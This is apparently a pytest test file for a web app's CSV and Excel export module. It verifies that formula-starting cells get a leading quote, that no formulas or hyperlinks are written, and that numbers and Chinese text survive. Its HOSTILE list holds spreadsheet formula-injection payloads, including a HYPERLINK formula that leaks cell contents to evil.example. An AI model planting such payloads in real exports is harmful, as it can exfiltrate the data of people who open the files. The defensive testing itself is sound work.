"""Safe exports: formula starts are neutralised in CSV and Excel, numbers stay numbers, Chinese survives Excel."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from python_calamine import CalamineWorkbook

from fuhua.core.exports import (
    csv_bytes,
    export_response,
    safe_cell,
    safe_workbook,
    unescape_cell,
    write_safe_row,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_a_leading_quote(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [0, -5, 3.25, Decimal("-1.50"), True, dt.date(2025, 1, 2)])
def test_numbers_dates_and_booleans_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_ordinary_text_none_and_objects():
    assert safe_cell("苏州创业园") == "苏州创业园"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(None) == ""
    assert safe_cell(Decimal) == str(Decimal)
    # A quote that this module did not add is kept on the way back.
    assert unescape_cell("'plain") == "'plain"


def _xlsx_cells(data: bytes) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def _has_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_writes_hostile_text_as_inert_text_and_numbers_as_numbers():
    rows = [[text, 7, -2.5] for text in HOSTILE]
    data = xlsx_bytes(["载体", "count", "amount"], rows, sheet_name="结果")
    assert not _has_formula(data)
    cells = _xlsx_cells(data)
    assert cells[0] == ["载体", "count", "amount"]
    for text, row in zip(HOSTILE, cells[1:], strict=True):
        assert row[0] == "'" + text
        assert row[1] == 7 and row[2] == -2.5


def test_csv_has_bom_escapes_formulas_and_keeps_numbers():
    data = csv_bytes(["载体", "n"], [[HOSTILE[0], 12], ["苏州", -3]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["载体", "n"], ["'" + HOSTILE[0], "12"], ["苏州", "-3"]]


def test_safe_workbook_refuses_to_turn_text_into_formulas_or_links():
    buffer = io.BytesIO()
    book = safe_workbook(buffer, in_memory=True)
    sheet = book.add_worksheet()
    sheet.write(0, 0, "=1+1")  # even without safe_cell the option keeps it text
    sheet.write(0, 1, "http://example.com")
    write_safe_row(sheet, 1, 0, ["=2+2", dt.date(2025, 3, 1), Decimal("1.5"), None])
    book.close()
    data = buffer.getvalue()
    assert not _has_formula(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert not any(b"hyperlink" in z.read(n) for n in z.namelist() if "worksheets" in n)
    cells = _xlsx_cells(data)
    assert cells[0][:2] == ["=1+1", "http://example.com"]
    assert cells[1][:3] == ["'=2+2", "2025-03-01", 1.5]


def test_export_response_names_the_file_and_sets_the_type():
    response = export_response("台账 2025", ["a"], [["=x"]], fmt="csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=utf-8''" in response["Content-Disposition"]
    assert response.content.decode("utf-8-sig").splitlines()[1] == "'=x"
    xlsx = export_response("ledger", ["a"], [["=x"]], fmt="xlsx")
    assert xlsx["Content-Disposition"] == 'attachment; filename="ledger.xlsx"'
    assert _xlsx_cells(xlsx.content)[1] == ["'=x"]
    with pytest.raises(ValueError, match="unknown export format"):
        export_response("x", [], [], fmt="pdf")
